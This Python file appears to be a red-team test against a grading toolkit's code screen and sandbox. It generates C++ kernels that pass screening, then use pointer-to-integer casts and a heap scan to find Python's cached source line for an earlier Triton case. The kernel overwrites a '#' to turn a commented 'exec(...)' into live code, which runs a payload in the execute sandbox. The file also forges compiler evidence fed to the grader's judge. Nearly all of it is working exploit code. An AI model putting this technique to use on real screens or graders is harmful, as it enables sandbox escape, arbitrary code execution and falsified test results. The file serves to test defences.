"""Red team 8, R1: 5.1 forged through the C++ casts the ninth team's fix allows. A screen-clean C++
kernel turns a pointer into an integer (``int64_t(0 + in_ptr0)``) and an integer back into a
pointer (``(decltype(tmp2))(...)``, with ``uint8_t* tmp2`` a local), scans the heap below its input
for the line Python's ``linecache`` holds of an earlier Triton case's file and turns that line's
comment (``tmp9 = 0 #; exec(...)``: comments are never screened) into code by writing one space
over the ``#``. The next Triton case with the same source (same file, same hash) is compiled by
Triton's interpreter from ``inspect.getsourcelines`` -> linecache: the cached, patched line, so its
``exec`` (a builtin there) runs lib_forge7's payload in the execute sandbox.
    python tests/redteam/lib_forge8.py [SEED]
"""
import json
import os
import sys

os.environ.setdefault("TRITON_INTERPRET", "1")
sys.path.insert(0, os.path.dirname(__file__))
import lib_forge6  # noqa: E402
import lib_forge7  # noqa: E402

MARK = "#; exec("
# one source for every Triton case: the file (lk_<sha256>.py) and its linecache entry are shared
CODE = "def run():\n" + "".join("    " + ln + "\n" for ln in lib_forge7.PY_ALL.splitlines()) + "run()\n"
# the comment line first: _through_log1p wants the last op line's result used (junk = tmp1)
TRITON = ("@triton.jit\ndef kernel0(in_ptr0, out_ptr0, BLOCK: tl.constexpr):\n"
          + f"    tmp9 = 0 {MARK}{CODE!r}) # " + "pad" * 100 + "\n"
          + lib_forge6._log1p_lines("triton", 2))


def cpp_source(n_args: int, scan: bool, times: int = 1) -> str:
    """Screen-clean: scan up and down from in_ptr0 (nearest first, at most 64 MiB) for the cached
    line (a str object's data follows its header, whose last byte is 0) and write ' ' over its
    '#'; a patched line also stops it. ``scan`` only after a Triton case (the line exists), so the
    scan always ends at it inside the heap."""
    params = ", ".join([f"const float* in_ptr{i}" for i in range(n_args)] + ["int nthreads"])
    cond = " && ".join(f"tmp2[{i}] == {ord(c)}" for i, c in enumerate(MARK) if i) + \
        " && (tmp2[0] == 35 || tmp2[0] == 32) && tmp2[-2] == 48 && tmp2[-14] == 0"
    body = "".join(f"    auto tmp{10 + 2 * j} = 0.5;\n    auto tmp{11 + 2 * j} = std::log1p(tmp{10 + 2 * j});\n"
                   f"    if (tmp{11 + 2 * j} > 0) {{}}\n" for j in range(times))
    if scan:
        body += ("    uint8_t* tmp2 = 0;\n    auto tmp3 = int64_t(0 + in_ptr0);\n    int64_t tmp4 = 0;\n"
                 "    for (int64_t x0 = 64; x0 < 67108864 && tmp4 == 0; x0++) {\n"
                 + "".join(f"        tmp2 = (decltype(tmp2))(tmp3 {sign} x0);\n"
                           f"        if (tmp4 == 0 && {cond}) {{\n            tmp2[0] = 32;\n"
                           "            tmp4 = x0;\n        }\n" for sign in "+-")
                 + "    }\n")
    return f'extern "C" void kernel0({params}) {{\n' + body + "}\n"


def forged_case(case: dict, after_triton: bool = True) -> dict:
    got = lib_forge6.forged_case(case)
    k = got["kernels"][0]
    if case["target"] == "triton":
        k["source"] = TRITON
        k["launch"] = {"grid": 1, "block": 1, "num_warps": 1}
        # the one kernel takes (in_ptr0, out_ptr0): the wrapper passes the first input and buffer
        lines = got["call"].splitlines()
        launch = next(i for i, ln in enumerate(lines) if ln.strip().startswith("kernel0("))
        lines[launch] = "    kernel0(arg0_1, buf0)"
        got["call"] = "\n".join(lines) + "\n"
        if case["program"] == "logaddexp_t":   # _through_log1p counts the lines twice: a dead twin
            got["kernels"].append({**k, "name": "kernel1", "source": TRITON.replace("def kernel0", "def kernel1")})
    else:
        k["source"] = cpp_source(len(k["args"]), after_triton, 2 if case["program"] == "logaddexp_t" else 1)
    return got


def forged_evidence(cases: list) -> dict:
    """The "compiler"'s output for every case (produce sees the cases in execute's order)."""
    programs = [c for c in cases if c["kind"] == "program"]
    first = next((i for i, c in enumerate(programs) if c["target"] == "triton"), len(programs))
    return {c["id"]: forged_case(c, i > first) for i, c in enumerate(programs)}


def forged_problems(seed: int) -> tuple:
    from labkit.grading import libcheck as lc
    cases, values = lc.draw(seed, ("5.1",))
    evidence = json.loads(json.dumps(forged_evidence(cases)))
    screened = {c["id"]: lc.screen(c, evidence[c["id"]]) for c in cases if c["kind"] == "program"}
    outputs = json.loads(json.dumps(lc.execute_here(cases, evidence, values)))
    expected = json.loads(json.dumps(lc.expect(cases, values)))
    return lc.judge(cases, evidence, outputs, {}, expected), outputs, cases, screened


if __name__ == "__main__":
    sys.path.insert(0, os.getcwd())
    seed = int(sys.argv[1]) if len(sys.argv) > 1 else 5
    problems, outputs, cases, screened = forged_problems(seed)
    print("screen refusals:", {k: v for k, v in screened.items() if v})
    print("cases:", [(c["program"], c["target"]) for c in cases if c["kind"] == "program"])
    for v in problems.get("5.1", []):
        print("PROBLEM", str(v)[:200])
    print("5.1 problems:", len(problems.get("5.1", [])))
    print({k: str(v)[:200] for k, v in outputs.items() if "outputs" not in v})
